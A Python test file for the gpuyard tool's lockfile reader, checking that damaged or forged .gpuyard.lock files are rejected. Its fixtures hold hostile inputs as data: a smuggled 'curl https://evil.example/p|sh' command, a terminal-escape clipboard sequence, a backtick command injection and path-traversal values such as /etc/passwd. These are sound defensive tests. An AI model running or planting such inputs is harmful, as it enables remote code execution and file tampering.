""".gpuyard.lock comes with commits that others write: it is evidence, and nothing is done because of it alone."""

import json
from pathlib import Path, PurePosixPath
from typing import Any

import pytest

from gpuyard.commit.lock import LOCK, Lock, lock_of, sha256
from gpuyard.commit.lockfile import read_lock, write_lock
from gpuyard.errors import GpuyardError
from gpuyard.pipeline import placements_of
from gpuyard.resolve import Resolved
from gpuyard.tree import Tree, is_generated
from tests.test_compile import git, run, save

DIGEST = "0" * 64
GOOD: dict[str, Any] = {
    "format": 2,
    "input": DIGEST,
    "listing": DIGEST,
    "placements": {
        "phx": {
            "chat": {
                "shape": "a10",
                "namespace": "inference",
                "claim": {"kind": "fss", "storageClassName": "oci-fss", "size": "100Gi"},
            },
            "docs": {"shape": "a10", "namespace": "inference", "claim": None},
        },
        "iad": {},
    },
    "files": {"README.md": DIGEST, "base/chat/service.yaml": DIGEST},
}
SHELL = "x; curl https://evil.example/p|sh #"
ESCAPE = "a\x1b]52;c;cm0=\x07\n::error::gone"
NOT_OURS = ["[]", "3", "null", "{}", '{"version": 1, "packages": []}', '{"format": "2"}', '{"format": true}']


def changed(path: str, value: object) -> str:
    """The good lock with another value at a path."""
    data = json.loads(json.dumps(GOOD))
    *folders, last = path.split(">")
    inside = data
    for key in folders:
        inside = inside[key]
    inside[last] = value
    return json.dumps(data)


def refusal(text: str) -> str:
    with pytest.raises(GpuyardError) as caught:
        read_lock(text)
    return str(caught.value)


def test_what_is_written_is_read(demo: Resolved, demo_tree: Tree) -> None:
    lock = lock_of(demo_tree, DIGEST, placements_of(demo, demo_tree))
    assert read_lock(write_lock(lock)) == lock
    assert read_lock(write_lock(Lock())) == Lock() == read_lock(None)
    assert write_lock(read_lock(json.dumps(GOOD))).startswith(f'{{\n "format": 2,\n "input": "{DIGEST}",\n')


def test_each_file_has_a_line_and_the_order_is_one(demo: Resolved, demo_tree: Tree) -> None:
    """So that Git can merge it, and a reader can read its diff."""
    placements = placements_of(demo, demo_tree)
    lock = lock_of(demo_tree, DIGEST, placements)
    lines = write_lock(lock).splitlines()
    assert all(
        f'  "{path}": "{sha256(text)}"' in {line.rstrip(",") for line in lines} for path, text in demo_tree.items()
    )
    backwards = Lock(
        lock.input,
        lock.listing,
        {cluster: dict(reversed(list(found.items()))) for cluster, found in reversed(list(placements.items()))},
        dict(reversed(list(lock.files.items()))),
    )
    assert write_lock(backwards).splitlines() == lines


def test_a_lock_of_format_1_has_no_placements() -> None:
    old = json.dumps({"format": 1, "input": DIGEST, "listing": DIGEST, "files": {"README.md": DIGEST}})
    assert read_lock(old) == Lock(DIGEST, DIGEST, {}, {PurePosixPath("README.md"): DIGEST})


def test_a_lock_of_a_newer_gpuyard() -> None:
    assert refusal('{"format": 3}') == ".gpuyard.lock: written by a newer gpuyard (format 3); upgrade gpuyard"


@pytest.mark.parametrize("text", NOT_OURS)
def test_a_lock_that_is_not_ours(text: str) -> None:
    assert refusal(text).startswith(".gpuyard.lock: not written by gpuyard (it has no format); move it, or ")


@pytest.mark.parametrize(
    ("text", "start"),
    [
        ("", ".gpuyard.lock:1:1: damaged (not JSON: Expecting value)"),
        ('{\n "format": 2,\n<<<<<<< HEAD\n', ".gpuyard.lock:3:1: damaged (not JSON: "),
        ("[" * 200_000, ".gpuyard.lock: damaged (more than any lock has)"),
        (f'{{"format": {"9" * 5000}}}', ".gpuyard.lock: damaged (more than any lock has)"),
    ],
)
def test_a_lock_that_is_not_json(text: str, start: str) -> None:
    assert refusal(text).startswith(start)


@pytest.mark.parametrize(
    ("path", "value", "reason"),
    [
        ("input", "x", "input cannot be 'x'"),
        ("listing", None, "listing cannot be of type NoneType"),
        ("files", ["README.md"], "'files' is not a mapping"),
        ("files>README.md", DIGEST + "\n", f"README.md cannot be '{DIGEST}\\n'"),
        ("placements", None, "'placements' is not a mapping"),
        ("placements>phx", [], "'phx' is not a mapping"),
        ("placements>phx>chat", 3, "'chat' is not a mapping"),
        ("placements>phx>chat>shape", "a10\n", "shape cannot be 'a10\\n'"),
        ("placements>phx>chat>namespace", SHELL, f"namespace cannot be '{SHELL}'"),
        ("placements>phx>chat>namespace", "-n", "namespace cannot be '-n'"),
        ("placements>phx>chat>claim", [], "'claim' is not a mapping"),
        ("placements>phx>chat>claim>kind", "`id`", "kind cannot be '`id`'"),
        ("placements>phx>chat>claim>storageClassName", ESCAPE, "storageClassName cannot be 'a\\x1b]52;"),
        ("placements>phx>chat>claim>size", "100Gb", "size cannot be '100Gb'"),
        ("placements>phx>chat>claim>size", 100, "size cannot be of type int"),
        ("placements>phx>chat>claim>size", "9" * 5000 + "Gi", "size cannot be '999"),
        (f"placements>phx>{SHELL}", GOOD["placements"]["phx"]["docs"], f"a name cannot be '{SHELL}'"),
        (f"placements>{ESCAPE}", {}, "a name cannot be 'a\\x1b]52;"),
        ("placements>phx>chat>shape", "a\u202e10", "shape cannot be 'a\\u202e10'"),
    ],
)
def test_what_no_gpuyard_wrote_is_damage(path: str, value: object, reason: str) -> None:
    """Names, classes and sizes stand in messages, and in commands that people paste."""
    message = refusal(changed(path, value))
    assert message.startswith(f".gpuyard.lock: damaged ({reason}"), message
    assert message.isprintable()
    assert len(message) < 400


PATHS = [
    *(
        "stack.yaml",
        "images.lock",
        ".gpuyard.lock",
        "CODEOWNERS",
        "README",
        "readme.md",
        "README.md/x",
        "base",
        "base/",
    ),
    *("blueprints/chat.yaml", ".github/workflows/gpuyard.yaml", ".git/config", "src/base/x.yaml", "base.yaml"),
    *(
        "../x",
        "/etc/passwd",
        "/base/x",
        "base/../stack.yaml",
        "base/./x",
        "base//x",
        "base/x/..",
        "./base/x",
        "~/base/x",
    ),
    *("base/x\n", "base/\x1b[31m", "base/x y", "base/ä", "base\\x", "base/" + "a" * 256, "", "README.md\n"),
]


@pytest.mark.parametrize("path", PATHS)
def test_a_path_that_gpuyard_never_generates_is_damage(path: str) -> None:
    message = refusal(changed(f"files>{path}", DIGEST))
    assert message.startswith(f".gpuyard.lock: damaged ({ascii(path)[:80]} is not a file that gpuyard generates"), (
        message
    )


def test_whatever_is_generated_may_be_in_a_lock(demo_tree: Tree) -> None:
    assert [path for path in demo_tree if not is_generated(str(path))] == []


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    """Compiled, with files of others."""
    root = tmp_path / "gitops"
    assert run("init", root).exit_code == 0
    assert run("compile", root).exit_code == 0
    (root / "CODEOWNERS").write_text("* @acme\n", encoding="utf-8")
    return root


def edit_lock(root: Path, edit: dict[str, Any]) -> None:
    lock = json.loads((root / LOCK).read_text(encoding="utf-8"))
    for key, value in edit.items():
        lock[key] = {**lock[key], **value} if isinstance(value, dict) else value
    (root / LOCK).write_text(json.dumps(lock), encoding="utf-8")


@pytest.mark.parametrize(
    "victim", ["CODEOWNERS", "stack.yaml", "blueprints/chat.yaml", ".github/workflows/gpuyard.yaml", "../outside"]
)
def test_a_forged_lock_deletes_nothing(victim: str, repository: Path) -> None:
    """Its sha256 is right, as a pull request can make it."""
    (repository.parent / "outside").write_text("mine", encoding="utf-8")
    text = (repository / victim).read_text(encoding="utf-8")
    edit_lock(repository, {"files": {victim: sha256(text)}, "input": ""})
    save(repository, "a pull request")
    head = git(repository, "rev-parse", "HEAD")
    results = [run("compile", repository, *more) for more in ((), ("--overwrite",), ("--check",))]
    assert {(result.exit_code, result.output) for result in results} == {(1, results[0].output)}
    assert f".gpuyard.lock: damaged ('{victim}' is not a file that gpuyard generates)" in results[0].output
    assert (repository / victim).read_text(encoding="utf-8") == text
    assert git(repository, "rev-parse", "HEAD") == head


def test_forged_placements_only_make_words(repository: Path) -> None:
    """What they say is told, and changes no file but the lock."""
    ghost = {"ghost": {"shape": "a10", "namespace": "inference", "claim": None}}
    before = (repository / LOCK).read_text(encoding="utf-8")
    edit_lock(repository, {"placements": {"phx": ghost}, "input": ""})
    save(repository, "a pull request")
    result = run("compile", repository, "-o", "json")
    data = json.loads(result.stdout)
    message = "ghost is deleted from phx"
    assert data["consequences"] == [{"cluster": "phx", "blueprint": "ghost", "effect": "removed", "message": message}]
    assert data["notes"][-1] == message
    assert git(repository, "show", "--name-only", "--format=", "HEAD") == str(LOCK)
    assert (repository / LOCK).read_text(encoding="utf-8") == before


def test_after_an_upgrade_the_first_compile_knows_of_no_departures(repository: Path) -> None:
    lock = json.loads((repository / LOCK).read_text(encoding="utf-8"))
    old = {"format": 1, "input": "0" * 64, "listing": lock["listing"], "files": lock["files"]}
    (repository / LOCK).write_text(json.dumps(old, indent=1) + "\n", encoding="utf-8")
    git(repository, "rm", "-q", "blueprints/chat.yaml")
    save(repository, "an older gpuyard's")
    result = run("compile", repository)
    assert (result.exit_code, "is deleted from" in result.stderr) == (0, False), result.output
    assert not (repository / "base").exists()
    assert json.loads((repository / LOCK).read_text(encoding="utf-8"))["placements"] == {"phx": {}}
    assert run("compile", repository).output.startswith("up to date")
